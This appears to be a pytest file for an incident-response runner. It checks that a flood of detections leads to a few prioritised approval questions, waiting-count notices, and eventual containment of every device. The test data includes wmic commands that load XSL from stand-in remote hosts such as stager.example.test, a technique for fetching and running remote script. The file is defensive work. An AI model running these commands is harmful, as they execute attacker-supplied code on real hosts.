"""A flood of questions: few are open at once, the worst first, none is lost, people are told."""

from __future__ import annotations

from pathlib import Path

import pytest

from runner.crowding import CROWD, MOST_OF_ONE_CAMPAIGN, MOST_OPEN
from runner.journal.records import ApprovalState, RunStatus
from tests.world import World, running_world
from tests.world_settings import HOST, RESPONDER_A

ONE_CAMPAIGN = 'wmic process list /FORMAT:"https://stager.example.test/a.xsl"'
ROOMY = {"guards": {"budget": {"per_hour": 1000, "fleet_percent": 100}}}


def flood(world: World, count: int, line: str | None = None) -> None:
    """So many hits, each on a host of its own."""
    for number in range(count):
        host = f"FLOOD{number:03}"
        world.falcon.add_device(HOST, hostname=host)
        own = f'wmic process list /FORMAT:"https://h{number}.example.test/{number}.xsl"'
        world.hit(host=host, cmdline=line or own)
        world.clock.advance(-60)
    world.clock.advance(60)


def open_cards(world: World) -> int:
    return len(world.questions(ApprovalState.OPEN, ApprovalState.POSTING))


@pytest.mark.parametrize(
    ("line", "most"), [(ONE_CAMPAIGN, MOST_OF_ONE_CAMPAIGN), (None, MOST_OPEN)]
)
def test_flood_when_nobody_answers_then_few_cards_and_people_are_told_how_many_wait(
    tmp_path: Path, line: str | None, most: int
) -> None:
    with running_world(tmp_path, ROOMY) as world:
        world.arm()
        flood(world, 24, line)
        world.ticks(4, every_s=30)
        assert len(world.cases()) == 24
        assert 1 <= open_cards(world) <= most
        told = [note for one in world.questions(ApprovalState.OPEN) for note in one.notes]
        assert sum("1 more case waits to be asked" in note for note in told) >= 1
        if line is None:
            assert sum("10 more cases wait to be asked" in note for note in told) == 1
        assert all(run.status is RunStatus.WAITING for run in world.runs())


def test_flood_when_each_is_answered_then_every_device_is_asked_about_in_the_end(
    tmp_path: Path,
) -> None:
    with running_world(tmp_path, ROOMY) as world:
        world.arm()
        flood(world, 9, ONE_CAMPAIGN)
        for _round in range(12):
            world.ticks(2, every_s=30)
            for question in world.questions(ApprovalState.OPEN):
                world.yes(question, RESPONDER_A)
        assert sorted(world.contains()) == [f"FLOOD{number:03}" for number in range(9)]


def test_flood_when_a_worse_one_comes_then_it_is_asked_about_at_once(tmp_path: Path) -> None:
    with running_world(tmp_path, ROOMY) as world:
        world.arm()
        for number in range(2 * MOST_OPEN + 4):
            host = f"ODD{number:03}"
            world.falcon.add_device(HOST, hostname=host)
            world.hit(host=host, cmdline=rf"wmic os get /format:C:\Temp\own{number}.xsl")
        world.ticks(3, every_s=30)
        assert open_cards(world) <= 2 * MOST_OPEN, "two grades of them"
        assert any(run.wait_on == CROWD for run in world.runs())
        world.hit(cmdline=ONE_CAMPAIGN)
        world.ticks(2, every_s=30)
        asked = {item.device.hostname for one in world.questions() for item in one.items}
        assert HOST in asked
